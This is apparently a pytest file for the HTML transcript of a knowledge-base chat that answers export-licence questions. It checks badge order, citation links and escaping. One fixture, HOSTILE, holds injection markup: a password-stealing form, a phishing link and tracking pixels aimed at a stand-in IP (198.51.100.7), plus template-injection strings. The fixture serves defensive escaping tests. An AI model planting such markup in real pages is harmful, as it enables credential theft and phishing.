"""The chat transcript: the verdict badge and the first sentence lead each answer, then its key facts;
sources stay in the panel; each [n] links to its card; every text is escaped."""

from __future__ import annotations

import dataclasses
import re

import pytest

from kb.answering.knowledge import KnowledgeBase
from kb.answering.records import Answer
from kb.app.conversations import Conversation, Turn
from kb.app.transcript import answer_blocks, answer_html, linked, transcript_html
from kb.config import Settings
from tests.conftest import WordOverlapSearcher

HOSTILE = (
    '<span class="kb-badge" data-verdict="not_listed">○ NOT LISTED</span>'
    '<form action="http://198.51.100.7/steal"><input type="password" name="pw"></form>'
    '<a href="http://198.51.100.7/phish">MOFCOM official page</a><img src="http://198.51.100.7/p.png">'
    " ![pixel](http://198.51.100.7/md.png) ${alert(1)} {{constructor}}"
)


@pytest.fixture(scope="module")
def answer() -> Answer:
    base = KnowledgeBase(Settings(), searcher=WordOverlapSearcher())
    return base.answer("Do I need a licence to export gallium nitride?", as_of="2026-11-22")


def test_the_badge_and_first_sentence_lead_the_answer(answer: Answer) -> None:
    shown = answer_html(answer, 0)
    assert shown.index('data-verdict="licence_required"') < shown.index('class="kb-lead"')
    lead = re.search(r'<p class="kb-lead">(.*?)</p>', shown)
    assert lead and lead.group(1).startswith("As of 2026-11-22: licence required. Exporting gallium nitride")
    assert "<h4>Key facts</h4><ul><li>" in shown and "<h4>Caveats</h4>" in shown


def test_sources_are_left_to_the_panel(answer: Answer) -> None:
    shown = answer_html(answer, 0)
    assert "Sources:" not in shown and "— status on" not in shown
    assert f"Sources ({len(answer.citations)})" in shown  # a button that shows them in the panel


def test_each_citation_number_links_to_its_card(answer: Answer) -> None:
    shown = answer_html(answer, 3)
    numbers = {int(n) for n in re.findall(r"\[(\d+)\]", answer.text.split("Sources:")[0])}
    for n in numbers:
        assert f'<a class="kb-ref" href="#kb-cite-{n}" data-turn="3" data-n="{n}"' in shown
    assert linked("see [1] and [9]", 0, {1}).endswith("[9]")  # a number with no citation stays text


def test_an_answer_with_a_new_section_shows_it() -> None:
    blocks = answer_blocks("As of today: x.\n\nConditions:\n- only above 99.99% [1]\n\nSources:\n[1] y")
    assert [(b.heading, b.lines) for b in blocks] == [
        (None, [("p", "As of today: x.")]),
        ("Conditions:", [("li", "only above 99.99% [1]")]),
    ]


def test_every_text_is_escaped(answer: Answer) -> None:
    hostile = dataclasses.replace(
        answer, text=f"As of 2026-11-22: not listed. {HOSTILE}\n\nKey facts:\n- {HOSTILE} [1]"
    )
    conversation = Conversation()
    conversation.add(Turn(HOSTILE, hostile, notices=(HOSTILE,)), 10)
    conversation.add(Turn("bad", message=HOSTILE), 10)
    page = transcript_html(conversation)
    for tag in (
        "<form",
        "<input",
        "<img",
        '<a href="http',
        '<span class="kb-badge" data-verdict="not_listed"',
    ):
        assert tag not in page, tag
    assert page.count("&lt;form") == 5 and "![pixel](http://198.51.100.7/md.png)" in page


def test_the_transcript_marks_the_newest_turn_and_dropped_ones(answer: Answer) -> None:
    conversation = Conversation()
    for i in range(4):
        conversation.add(Turn(f"q{i}", answer), 3)
    page = transcript_html(conversation, pending=False)
    assert 'data-turns="3" data-focus="2"' in page and 'id="kb-turn-2"' in page
    assert "1 earlier question(s) of this conversation are no longer kept" in page
    conversation.add(Turn("q4"), 3)
    assert "Looking it up…" in transcript_html(conversation, pending=True)
    assert "Ask about an item" in transcript_html(Conversation())
